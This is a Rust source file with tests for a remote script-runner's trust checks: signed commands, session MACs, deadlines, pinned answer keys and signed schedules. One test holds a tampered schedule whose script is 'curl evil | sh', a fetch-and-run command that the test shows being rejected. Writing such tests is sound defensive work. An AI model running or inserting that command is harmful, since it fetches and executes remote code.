//! The checks of trust (ARCHITECTURE.md, Trust): commands signed by a dispatcher key the agent
//! trusts, answers signed by the agent key the dispatcher pinned. The broker is a transport,
//! never an authority. [`check_command_seal`] and [`check_command_header`] are the agent's
//! decisions, [`check_answer`], [`check_binding`] and [`check_announcement`] the dispatcher's:
//! plain functions, no I/O.

use super::files::{Pin, TrustedKeys};
use super::keys::{KeyId, PublicKey};
use super::seal::{announcement_parts, answer_parts, command_parts, schedule_parts, Seal, SealHeaderError, SessionId};
use super::session::Session;
use crate::time::short;
use crate::wire::envelope::{Envelope, InReplyTo, Reply};
use crate::wire::error::ErrorKind;
use crate::wire::messages::SERVICE_ANSWER_BINDING;
use crate::wire::ticket::Ticket;
use crate::wire::topology::CLOCK_SKEW_ALLOWANCE_MS;

/// Longest a signed command may stay valid: `not_after` at most this long after `issued_at`, so
/// a captured command is worthless after a day at most.
pub const MAX_COMMAND_WINDOW_MS: u64 = 24 * 3600 * 1000;

/// Who an agent is, for the target check.
#[derive(Clone, Copy, Debug)]
pub struct Identity<'a> {
    pub agent_id: &'a str,
    pub pool: Option<&'a str>,
}

/// Why an agent refuses a command. Shown to the sender (in a `NotAuthorized` reply, whatever the
/// reason: every failed trust check is answered so, a signed command past its `not_after`
/// included: ARCHITECTURE.md, Trust) and logged.
#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
pub enum Refusal {
    #[error("unsigned command: this agent runs only commands signed by a dispatcher key it trusts")]
    Unsigned,
    #[error("bad signature headers: {0}")]
    BadHeaders(#[source] SealHeaderError),
    #[error("signed by key {0}, which this agent does not trust")]
    UntrustedKey(KeyId),
    #[error("the signature by key {0} does not verify: the command was altered, or not made by that key")]
    BadSignature(KeyId),
    #[error("addressed to {target:?}, not to this agent ({expected})")]
    Misaddressed { target: String, expected: String },
    #[error("no not_after: a signed command must say until when it may run")]
    NoDeadline,
    #[error(
        "valid for {} after it was issued, more than the 24h allowed",
        short(std::time::Duration::from_millis(*window_ms))
    )]
    WindowTooLong { window_ms: u64 },
    #[error("expired: its not_after has passed")]
    Expired,
    #[error("session {0} is not one this agent holds (it restarted or let it expire): send the command signed")]
    UnknownSession(SessionId),
    #[error("the MAC of session {0} does not verify: the command was altered, or not made in that session")]
    BadMac(SessionId),
}

impl Refusal {
    /// The reason a refusal is counted under (`cuttle_commands_refused_total`): `Expired` for a
    /// command past its deadline, so that a stale queue is told apart from commands nobody
    /// trusted, and `UnknownSession` for a session forgotten (after a restart: not an attack);
    /// `NotAuthorized` for everything else.
    pub fn counted_as(&self) -> ErrorKind {
        match self {
            Refusal::Expired => ErrorKind::Expired,
            Refusal::UnknownSession(_) => ErrorKind::UnknownSession,
            _ => ErrorKind::NotAuthorized,
        }
    }

    /// The kind of the answer: `UnknownSession` tells the dispatcher to sign the command and
    /// send it again; every other refusal is `NotAuthorized`.
    pub fn answered_as(&self) -> ErrorKind {
        match self {
            Refusal::UnknownSession(_) => ErrorKind::UnknownSession,
            _ => ErrorKind::NotAuthorized,
        }
    }
}

/// How a command passed the signature check.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Origin {
    /// Signed by this trusted key.
    Key(KeyId),
    /// MAC'd in a session this trusted key offered.
    Session { key: KeyId, session: SessionId },
    /// Unsigned, and the agent accepts unsigned commands (`--insecure-allow-unsigned`).
    Unsigned,
}

/// The agent's first check, on the raw body before it is decoded: a seal by a trusted key that
/// verifies over the whole body, or a MAC over it in `session`, the session the seal names as
/// the agent holds it (`None` if it holds none by that id), offered by a key still trusted.
/// Unsigned commands pass only when `allow_unsigned`; a seal that is present but does not
/// verify is refused even then.
pub fn check_command_seal(
    trusted: &TrustedKeys,
    allow_unsigned: bool,
    seal: Result<Option<Seal>, SealHeaderError>,
    body: &[u8],
    session: Option<&Session>,
) -> Result<Origin, Refusal> {
    match seal.map_err(Refusal::BadHeaders)? {
        None if allow_unsigned => Ok(Origin::Unsigned),
        None => Err(Refusal::Unsigned),
        Some(Seal::Signature { key, signature }) => {
            let public = trusted.get(key).ok_or(Refusal::UntrustedKey(key))?;
            if !public.verifies(&command_parts(body), &signature) {
                return Err(Refusal::BadSignature(key));
            }
            Ok(Origin::Key(key))
        }
        Some(Seal::Mac { session: id, tag }) => {
            let session = session.filter(|s| s.id() == id).ok_or(Refusal::UnknownSession(id))?;
            let key = session.dispatcher_key();
            trusted.get(key).ok_or(Refusal::UntrustedKey(key))?;
            if !session.verifies(&command_parts(body), &tag) {
                return Err(Refusal::BadMac(id));
            }
            Ok(Origin::Session { key, session: id })
        }
    }
}

/// The agent's checks of a signed command's envelope, once its seal verified: addressed to this
/// agent (its id, or `pool:<its pool>`), with a `not_after` at most 24 h after `issued_at` that
/// has not passed (allowing [`CLOCK_SKEW_ALLOWANCE_MS`]).
pub fn check_command_header(header: &Envelope<()>, me: Identity<'_>, now_ms: u64) -> Result<(), Refusal> {
    let for_pool = me.pool.is_some_and(|pool| header.target.strip_prefix("pool:") == Some(pool));
    if header.target != me.agent_id && !for_pool {
        let expected = match me.pool {
            Some(pool) => format!("{} or pool:{pool}", me.agent_id),
            None => me.agent_id.to_owned(),
        };
        return Err(Refusal::Misaddressed { target: header.target.clone(), expected });
    }
    let not_after = header.not_after.ok_or(Refusal::NoDeadline)?;
    let window_ms = not_after.saturating_sub(header.issued_at);
    if window_ms > MAX_COMMAND_WINDOW_MS {
        return Err(Refusal::WindowTooLong { window_ms });
    }
    if now_ms > not_after.saturating_add(CLOCK_SKEW_ALLOWANCE_MS) {
        return Err(Refusal::Expired);
    }
    Ok(())
}

/// Why the dispatcher does not believe an answer or an announcement.
#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
pub enum Forged {
    #[error("unsigned")]
    Unsigned,
    #[error("bad signature headers: {0}")]
    BadHeaders(#[source] SealHeaderError),
    #[error("signed by key {0}, which is not pinned for this target")]
    UnpinnedKey(KeyId),
    #[error("the signature by key {0} does not verify (altered, or signed for another request or message)")]
    BadSignature(KeyId),
    #[error("MAC'd in session {0}, which is not the one this request was sent in")]
    OtherSession(SessionId),
    #[error("the MAC of session {0} does not verify (altered, or made for another request)")]
    BadMac(SessionId),
    #[error(
        "it answers another message than the request sent (someone sent the agent a message under this request's ids, or replayed an old command under them)"
    )]
    OtherRequest,
    #[error("it is about ticket {answered}, not the ticket asked about ({asked})")]
    OtherTicket { asked: Ticket, answered: Ticket },
    #[error(
        "it does not name the request it answers (the agent predates {}), and --strict-answers refuses such answers",
        SERVICE_ANSWER_BINDING
    )]
    Unbound,
}

/// How an answer or announcement was believed.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Believed {
    /// Signed by this pinned key (for this request, if an answer), or MAC'd in the session the
    /// request was sent in, which this pinned key agreed.
    Key(KeyId),
    /// From an agent pinned as legacy, which cannot sign.
    Legacy,
}

/// The dispatcher's check of an answer (`body`) to its request `request_id`: it counts only if
/// sealed by a key pinned for the target asked, over this request's id and this body; or MAC'd
/// so in `session`, the session the request was sent in, agreed by a key still pinned.
pub fn check_answer(
    pin: &Pin,
    request_id: &str,
    seal: Result<Option<Seal>, SealHeaderError>,
    body: &[u8],
    session: Option<&Session>,
) -> Result<Believed, Forged> {
    let (id, tag, keys) = match (&seal, pin) {
        (Ok(Some(Seal::Mac { session, tag })), Pin::Keys(keys)) => (*session, *tag, keys),
        _ => return check_pinned(pin, seal, &answer_parts(request_id, body)),
    };
    let session = session.filter(|s| s.id() == id).ok_or(Forged::OtherSession(id))?;
    let key = session.agent_key();
    if !keys.iter().any(|k| k.id() == key) {
        return Err(Forged::UnpinnedKey(key));
    }
    if !session.verifies(&answer_parts(request_id, body), &tag) {
        return Err(Forged::BadMac(id));
    }
    Ok(Believed::Key(key))
}

/// Whether a believed answer named the request it answers ([`check_binding`]).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Binding {
    /// It names this very request.
    Bound,
    /// It names none: its agent predates [`SERVICE_ANSWER_BINDING`] (or is legacy), so it
    /// may answer a message someone else sent under this request's ids.
    Unbound,
}

/// The dispatcher's second check of an answer whose seal it believed ([`check_answer`]): that it
/// answers this very request. `in_reply_to` is what the answer's envelope names; `digest` and
/// `ticket` are the request's own ([`crate::wire::envelope::request_digest`] of the bytes sent, and
/// its ticket).
///
/// - An answer naming another message, or another ticket, answers someone else's message: it is
///   not believed (an attacker copied this request's correlation id and reply-to onto a message
///   of its own, or replayed an old command under them, and the agent answered that).
/// - A status about another ticket is never believed, named or not.
/// - An answer naming nothing comes from an agent that predates answer binding: believed
///   ([`Binding::Unbound`], for a warning), unless `strict` (`--strict-answers`) and its agent
///   is pinned by key (a legacy pin is the operator's choice to believe unsigned answers).
pub fn check_binding(
    in_reply_to: Option<&InReplyTo>,
    digest: &[u8; 32],
    ticket: Option<&Ticket>,
    reply: &Reply,
    believed: Believed,
    strict: bool,
) -> Result<Binding, Forged> {
    let other_ticket = |answered: &Ticket| match ticket {
        Some(asked) if asked != answered => {
            Err(Forged::OtherTicket { asked: asked.clone(), answered: answered.clone() })
        }
        _ => Ok(()),
    };
    let binding = match in_reply_to {
        Some(named) if !named.answers(digest) => return Err(Forged::OtherRequest),
        Some(named) => {
            named.ticket.as_ref().map_or(Ok(()), other_ticket)?;
            Binding::Bound
        }
        None if strict && believed != Believed::Legacy => return Err(Forged::Unbound),
        None => Binding::Unbound,
    };
    if let Reply::ScriptStatus(status) = reply {
        other_ticket(&status.ticket)?;
    }
    Ok(binding)
}

/// The dispatcher's check of a presence announcement (`body`): it counts only if sealed by a key
/// of `pin` ([`KnownAgents::pin_of_agent`]) over this body. Legacy pins are believed unsigned,
/// as their answers are.
pub fn check_announcement(
    pin: &Pin,
    seal: Result<Option<Seal>, SealHeaderError>,
    body: &[u8],
) -> Result<Believed, Forged> {
    check_pinned(pin, seal, &announcement_parts(body))
}

/// The service's check of a schedule before one of its slots runs: `seal` is a signature by
/// `key` (the service's own) over `record`, exactly as it was signed. A schedule changed in the
/// journal by anyone without the key, or signed by another key, does not pass.
pub fn check_schedule(
    key: &PublicKey,
    seal: Result<Option<Seal>, SealHeaderError>,
    record: &[u8],
) -> Result<KeyId, Forged> {
    match check_pinned(&Pin::Keys(vec![*key]), seal, &schedule_parts(record))? {
        Believed::Key(key) => Ok(key),
        // Only a legacy pin believes unsigned messages, and this pin is a key.
        Believed::Legacy => Err(Forged::Unsigned),
    }
}

/// Whether `seal` is by a key of `pin` over `message`, the concatenation of its parts (never made).
fn check_pinned(pin: &Pin, seal: Result<Option<Seal>, SealHeaderError>, message: &[&[u8]]) -> Result<Believed, Forged> {
    let keys = match pin {
        Pin::Legacy => return Ok(Believed::Legacy),
        Pin::Keys(keys) => keys,
    };
    let (key, signature) = match seal.map_err(Forged::BadHeaders)?.ok_or(Forged::Unsigned)? {
        Seal::Signature { key, signature } => (key, signature),
        // Announcements are always signed, and answers MAC'd only in the request's session.
        Seal::Mac { session, .. } => return Err(Forged::OtherSession(session)),
    };
    let public = keys.iter().find(|k| k.id() == key).ok_or(Forged::UnpinnedKey(key))?;
    if !public.verifies(message, &signature) {
        return Err(Forged::BadSignature(key));
    }
    Ok(Believed::Key(key))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::entropy::fresh;
    use crate::trust::files::KnownAgents;
    use crate::trust::keys::tests::key;
    use crate::trust::seal::{SealHeaders, MAC_HEADER, SESSION_HEADER};
    use crate::wire::envelope::Request;
    use crate::wire::error::ErrorReply;
    use crate::wire::messages::{Kind, ScriptSpec, StartScriptV2};
    use proptest::prelude::*;

    #[test]
    fn a_schedules_signature_covers_its_whole_record_and_is_no_commands() {
        let (service, other) = (key(7), key(8));
        let record = br#"{"name":"rotate-logs","cron":"0 2 * * *","script":"logrotate"}"#;
        let seal = service.seal_schedule(record);
        assert_eq!(check_schedule(service.public(), Ok(Some(seal.clone())), record).unwrap(), service.id());
        let changed = br#"{"name":"rotate-logs","cron":"0 2 * * *","script":"curl evil | sh"}"#;
        assert!(matches!(
            check_schedule(service.public(), Ok(Some(seal.clone())), changed),
            Err(Forged::BadSignature(_))
        ));
        let by_other = other.seal_schedule(record);
        assert!(matches!(check_schedule(service.public(), Ok(Some(by_other)), record), Err(Forged::UnpinnedKey(_))));
        assert!(matches!(check_schedule(service.public(), Ok(None), record), Err(Forged::Unsigned)));
        // A command's signature over the same bytes is not a schedule's, nor the reverse.
        let command = service.seal_command(record);
        assert!(check_schedule(service.public(), Ok(Some(command)), record).is_err());
        let trusted = TrustedKeys::of([*service.public()]);
        assert!(check_command_seal(&trusted, false, Ok(Some(seal)), record, None).is_err());
    }

    fn header(target: &str, issued_at: u64, not_after: Option<u64>) -> Envelope<()> {
        Envelope::new(Kind::StartScriptV2, target, issued_at, not_after, (), &mut fresh()).unwrap()
    }

    fn start_bytes(target: &str) -> Vec<u8> {
        let start = StartScriptV2 {
            ticket: Ticket::generate(&mut fresh()).unwrap(),
            spec: ScriptSpec { script: "echo hi".into(), ..Default::default() },
            wait_for_output: None,
            first_issued_at: None,
        };
        Request::StartScriptV2(start).encode(target, 1_000, Some(61_000), &mut fresh()).unwrap().1
    }

    const ME: Identity<'static> = Identity { agent_id: "web-01", pool: Some("workers") };

    #[test]
    fn a_command_signed_by_a_trusted_key_passes_every_check() {
        let dispatcher = key(1);
        let trusted = TrustedKeys::of([*dispatcher.public()]);
        let body = start_bytes("web-01");
        let seal = dispatcher.seal_command(&body);
        let [(_, key_header), (_, sig_header)] = seal.to_headers();
        let read = Seal::from_headers(SealHeaders {
            key: Some(&key_header),
            signature: Some(&sig_header),
            ..Default::default()
        });
        assert_eq!(check_command_seal(&trusted, false, read, &body, None), Ok(Origin::Key(dispatcher.id())));
        let (header, _) = Request::decode(&body).unwrap();
        assert_eq!(check_command_header(&header, ME, 30_000), Ok(()));
    }

    #[test]
    fn commands_without_a_good_seal_are_refused() {
        let (dispatcher, stranger) = (key(1), key(2));
        let trusted = TrustedKeys::of([*dispatcher.public()]);
        let body = start_bytes("web-01");
        assert_eq!(check_command_seal(&trusted, false, Ok(None), &body, None), Err(Refusal::Unsigned));
        assert_eq!(check_command_seal(&trusted, true, Ok(None), &body, None), Ok(Origin::Unsigned));
        let foreign = stranger.seal_command(&body);
        assert_eq!(
            check_command_seal(&trusted, true, Ok(Some(foreign)), &body, None),
            Err(Refusal::UntrustedKey(stranger.id()))
        );
        let answer_seal = dispatcher.seal_answer("", &body);
        assert_eq!(
            check_command_seal(&trusted, true, Ok(Some(answer_seal)), &body, None),
            Err(Refusal::BadSignature(dispatcher.id())),
            "an answer's signature is no command's"
        );
        assert!(matches!(
            check_command_seal(
                &trusted,
                true,
                Seal::from_headers(SealHeaders { key: Some("00"), ..Default::default() }),
                &body,
                None
            ),
            Err(Refusal::BadHeaders(_))
        ));
        let headers = |key, signature| SealHeaders { key: Some(key), signature: Some(signature), ..Default::default() };
        assert!(Seal::from_headers(headers("0011223344556677", "AAAA")).is_err());
        // Revoked: the key is no longer in the file.
        let seal = dispatcher.seal_command(&body);
        assert_eq!(
            check_command_seal(&TrustedKeys::default(), false, Ok(Some(seal)), &body, None),
            Err(Refusal::UntrustedKey(dispatcher.id()))
        );
    }

    #[test]
    fn envelopes_are_checked_for_target_and_deadline() {
        let at = 1_000_000;
        let ok = |target: &str, not_after| check_command_header(&header(target, at, not_after), ME, at);
        assert_eq!(ok("web-01", Some(at + 60_000)), Ok(()));
        assert_eq!(ok("pool:workers", Some(at + 60_000)), Ok(()));
        assert!(matches!(ok("web-02", Some(at + 60_000)), Err(Refusal::Misaddressed { .. })));
        assert!(matches!(ok("workers", Some(at + 60_000)), Err(Refusal::Misaddressed { .. })), "bare pool name");
        assert!(matches!(ok("pool:other", Some(at + 60_000)), Err(Refusal::Misaddressed { .. })));
        let alone = Identity { agent_id: "web-01", pool: None };
        assert!(check_command_header(&header("pool:web-01", at, Some(at + 1)), alone, at).is_err());
        assert_eq!(ok("web-01", None), Err(Refusal::NoDeadline));
        assert_eq!(ok("web-01", Some(at + MAX_COMMAND_WINDOW_MS)), Ok(()));
        assert_eq!(
            ok("web-01", Some(at + MAX_COMMAND_WINDOW_MS + 1)),
            Err(Refusal::WindowTooLong { window_ms: MAX_COMMAND_WINDOW_MS + 1 })
        );
        let late = |now| check_command_header(&header("web-01", at, Some(at + 10)), ME, now);
        assert_eq!(late(at + 10 + CLOCK_SKEW_ALLOWANCE_MS), Ok(()), "within the skew allowance");
        assert_eq!(late(at + 11 + CLOCK_SKEW_ALLOWANCE_MS), Err(Refusal::Expired));
        assert_eq!(Refusal::Expired.counted_as(), ErrorKind::Expired);
        assert_eq!(Refusal::Unsigned.counted_as(), ErrorKind::NotAuthorized);
    }

    #[test]
    fn answers_count_only_from_a_pinned_key_for_their_own_request() {
        let (agent, other) = (key(5), key(6));
        let pin = Pin::Keys(vec![*agent.public()]);
        let body = b"answer".to_vec();
        let seal = agent.seal_answer("req-1", &body);
        assert_eq!(check_answer(&pin, "req-1", Ok(Some(seal.clone())), &body, None), Ok(Believed::Key(agent.id())));
        assert_eq!(
            check_answer(&pin, "req-2", Ok(Some(seal)), &body, None),
            Err(Forged::BadSignature(agent.id())),
            "an old answer replayed to another request"
        );
        assert_eq!(check_answer(&pin, "req-1", Ok(None), &body, None), Err(Forged::Unsigned));
        let impostor = other.seal_answer("req-1", &body);
        assert_eq!(check_answer(&pin, "req-1", Ok(Some(impostor)), &body, None), Err(Forged::UnpinnedKey(other.id())));
        assert_eq!(check_answer(&Pin::Legacy, "req-1", Ok(None), &body, None), Ok(Believed::Legacy));
        let command_seal = agent.seal_command(&body);
        assert!(
            check_answer(&pin, "", Ok(Some(command_seal)), &body, None).is_err(),
            "a command's signature is no answer's"
        );
    }

    #[test]
    fn an_answer_counts_only_for_the_very_request_it_names() {
        use crate::wire::envelope::{request_digest, InReplyTo, Reply};
        use crate::wire::status::{ScriptState, ScriptStatus};
        let asked = Ticket::generate(&mut fresh()).unwrap();
        let sent = start_bytes("web-01");
        let digest = request_digest(&sent);
        let status = |ticket: &Ticket| {
            Reply::ScriptStatus(ScriptStatus {
                ticket: ticket.clone(),
                state: ScriptState::Complete,
                exit_code: Some(0),
                logs: vec![],
                next_log_sequence: 1,
                lines_written: None,
            })
        };
        let refusal = Reply::Error(ErrorReply::new(ErrorKind::NotAuthorized, "unsigned command"));
        let key = Believed::Key(key(5).id());
        let check = |named: Option<InReplyTo>, reply: &Reply, strict| {
            check_binding(named.as_ref(), &digest, Some(&asked), reply, key, strict)
        };
        let this = |ticket: Option<&Ticket>| Some(InReplyTo::new(digest, ticket.cloned()));
        assert_eq!(check(this(Some(&asked)), &status(&asked), true), Ok(Binding::Bound));
        assert_eq!(check(this(None), &refusal, true), Ok(Binding::Bound), "a refusal before the ticket was read");
        // The agent's refusal of an attacker's junk sent under this request's correlation id.
        let junk = Some(InReplyTo::new(request_digest(b"junk"), None));
        assert_eq!(check(junk, &refusal, false), Err(Forged::OtherRequest));
        // An old command of a finished ticket replayed under this request's ids: both differ.
        let old = Ticket::generate(&mut fresh()).unwrap();
        let replayed = Some(InReplyTo::new(request_digest(&start_bytes("web-01")), Some(old.clone())));
        assert_eq!(check(replayed, &status(&old), false), Err(Forged::OtherRequest));
        assert_eq!(
            check(this(Some(&old)), &refusal, false),
            Err(Forged::OtherTicket { asked: asked.clone(), answered: old.clone() })
        );
        // An agent of the release before: believed, to be warned of; refused when strict. A
        // status of another ticket never counts, bound or not.
        assert_eq!(check(None, &status(&asked), false), Ok(Binding::Unbound));
        assert_eq!(check(None, &status(&asked), true), Err(Forged::Unbound));
        assert!(matches!(check(None, &status(&old), false), Err(Forged::OtherTicket { .. })));
        let legacy = check_binding(None, &digest, Some(&asked), &status(&asked), Believed::Legacy, true);
        assert_eq!(legacy, Ok(Binding::Unbound), "a legacy pin is believed unsigned, as it always was");
        assert_eq!(
            check(this(Some(&Ticket::parse(&asked.to_string().to_uppercase()).unwrap())), &status(&asked), true),
            Ok(Binding::Bound),
            "tickets compare case-insensitively"
        );
    }

    #[test]
    fn announcements_count_only_under_the_key_pinned_for_their_agent_or_else_its_pool() {
        let (agent, pool_key, other) = (key(5), key(6), key(7));
        let known = KnownAgents::parse(&format!(
            "web-01 {}\npool:workers {}\nold-box legacy\n",
            agent.public(),
            pool_key.public()
        ))
        .unwrap();
        let body = b"announcement".to_vec();
        let check = |id: &str, pool: Option<&str>, seal: Option<Seal>| {
            known.pin_of_agent(id, pool).map(|pin| check_announcement(pin, Ok(seal), &body))
        };
        let own = agent.seal_announcement(&body);
        assert_eq!(check("web-01", None, Some(own.clone())), Some(Ok(Believed::Key(agent.id()))));
        assert_eq!(check("web-01", Some("workers"), Some(own.clone())), Some(Ok(Believed::Key(agent.id()))));
        let by_pool = pool_key.seal_announcement(&body);
        assert_eq!(check("w-7", Some("workers"), Some(by_pool.clone())), Some(Ok(Believed::Key(pool_key.id()))));
        assert_eq!(
            check("web-01", Some("workers"), Some(by_pool)),
            Some(Err(Forged::UnpinnedKey(pool_key.id()))),
            "a pool key never speaks for an agent pinned by id"
        );
        assert_eq!(check("w-7", None, Some(own.clone())), None, "no pin: neither the id nor a pool");
        assert_eq!(check("w-7", Some("other"), Some(own.clone())), None);
        let stranger = other.seal_announcement(&body);
        assert_eq!(check("web-01", None, Some(stranger)), Some(Err(Forged::UnpinnedKey(other.id()))));
        assert_eq!(check("web-01", None, None), Some(Err(Forged::Unsigned)));
        assert_eq!(check("old-box", None, None), Some(Ok(Believed::Legacy)), "legacy, as its answers");
        let pin = known.pin("web-01").unwrap();
        let mut tampered = body.clone();
        tampered[0] ^= 1;
        assert_eq!(check_announcement(pin, Ok(Some(own)), &tampered), Err(Forged::BadSignature(agent.id())));
        let answer = agent.seal_answer("", &body);
        assert_eq!(
            check_announcement(pin, Ok(Some(answer)), &body),
            Err(Forged::BadSignature(agent.id())),
            "an answer's signature is no announcement's"
        );
        let command = agent.seal_command(&body);
        assert!(check_announcement(pin, Ok(Some(command)), &body).is_err(), "nor is a command's");
    }

    #[test]
    fn commands_and_answers_in_a_session_count_only_with_its_mac_and_while_its_keys_are_trusted() {
        use crate::trust::session::{accept, Offer};
        let (dispatcher, agent) = (key(1), key(5));
        let trusted = TrustedKeys::of([*dispatcher.public()]);
        let offer = Offer::new(&mut fresh()).unwrap();
        let (share, agents) = accept("req-0", offer.share(), dispatcher.id(), agent.id(), &mut fresh()).unwrap();
        let dispatchers = offer.complete("req-0", &share, dispatcher.id(), agent.id()).unwrap();
        let body = start_bytes("web-01");
        let seal = dispatchers.seal_command(&body);
        let [(session_name, session), (mac_name, mac)] = seal.to_headers();
        assert_eq!((session_name, mac_name), (SESSION_HEADER, MAC_HEADER));
        let read = Seal::from_headers(SealHeaders { session: Some(&session), mac: Some(&mac), ..Default::default() });
        assert_eq!(read, Ok(Some(seal.clone())));
        let mixed = SealHeaders {
            key: Some("0011223344556677"),
            session: Some(&session),
            mac: Some(&mac),
            ..Default::default()
        };
        assert!(Seal::from_headers(mixed).is_err(), "a signature's headers and a MAC's together");
        let check = |trusted: &TrustedKeys, body: &[u8], session| {
            check_command_seal(trusted, false, Ok(Some(seal.clone())), body, session)
        };
        let origin = Origin::Session { key: dispatcher.id(), session: agents.id() };
        assert_eq!(check(&trusted, &body, Some(&agents)), Ok(origin));
        assert_eq!(check(&trusted, &body, None), Err(Refusal::UnknownSession(agents.id())));
        assert_eq!(Refusal::UnknownSession(agents.id()).answered_as(), ErrorKind::UnknownSession);
        assert!(ErrorKind::UnknownSession.is_transient(), "repeated (signed), it may run");
        let other =
            accept("req-9", Offer::new(&mut fresh()).unwrap().share(), dispatcher.id(), agent.id(), &mut fresh())
                .unwrap()
                .1;
        assert_eq!(check(&trusted, &body, Some(&other)), Err(Refusal::UnknownSession(agents.id())));
        let mut tampered = body.clone();
        tampered[body.len() / 2] ^= 1;
        assert_eq!(check(&trusted, &tampered, Some(&agents)), Err(Refusal::BadMac(agents.id())));
        assert_eq!(
            check(&TrustedKeys::default(), &body, Some(&agents)),
            Err(Refusal::UntrustedKey(dispatcher.id())),
            "a revoked key's sessions go with it"
        );

        let pin = Pin::Keys(vec![*agent.public()]);
        let answer = agents.seal_answer("req-1", b"answer");
        let believe = |pin: &Pin, request: &str, body: &[u8], session| {
            check_answer(pin, request, Ok(Some(answer.clone())), body, session)
        };
        assert_eq!(believe(&pin, "req-1", b"answer", Some(&dispatchers)), Ok(Believed::Key(agent.id())));
        assert_eq!(believe(&pin, "req-2", b"answer", Some(&dispatchers)), Err(Forged::BadMac(agents.id())));
        assert_eq!(believe(&pin, "req-1", b"answer", None), Err(Forged::OtherSession(agents.id())));
        assert_eq!(believe(&pin, "req-1", b"answer", Some(&other)), Err(Forged::OtherSession(agents.id())));
        let repinned = Pin::Keys(vec![*dispatcher.public()]);
        assert_eq!(believe(&repinned, "req-1", b"answer", Some(&dispatchers)), Err(Forged::UnpinnedKey(agent.id())));
        assert!(
            check_answer(&pin, "", Ok(Some(seal)), &body, Some(&dispatchers)).is_err(),
            "a command's MAC is no answer's"
        );
        assert_eq!(check_announcement(&pin, Ok(Some(answer)), b"answer"), Err(Forged::OtherSession(agents.id())));
    }

    proptest! {
        // Each case signs and verifies in a debug build: enough cases to hit every region of the body.
        #![proptest_config(ProptestConfig::with_cases(64))]

        #[test]
        fn any_change_to_a_signed_command_is_refused(index in any::<prop::sample::Index>(), flip in 1u8..=255) {
            let dispatcher = key(1);
            let trusted = TrustedKeys::of([*dispatcher.public()]);
            let body = start_bytes("web-01");
            let seal = dispatcher.seal_command(&body);
            let mut tampered = body.clone();
            tampered[index.index(body.len())] ^= flip;
            prop_assert_eq!(
                check_command_seal(&trusted, false, Ok(Some(seal)), &tampered, None),
                Err(Refusal::BadSignature(dispatcher.id()))
            );
        }

        #[test]
        fn any_change_to_a_signed_answer_is_not_believed(
            index in any::<prop::sample::Index>(),
            flip in 1u8..=255,
            request in "[a-f0-9-]{36}",
        ) {
            let agent = key(5);
            let pin = Pin::Keys(vec![*agent.public()]);
            let body = start_bytes("web-01");
            let seal = agent.seal_answer(&request, &body);
            let mut tampered = body.clone();
            tampered[index.index(body.len())] ^= flip;
            prop_assert!(check_answer(&pin, &request, Ok(Some(seal.clone())), &tampered, None).is_err());
            let other_request = format!("{request}x");
            prop_assert!(check_answer(&pin, &other_request, Ok(Some(seal)), &body, None).is_err());
        }
    }
}
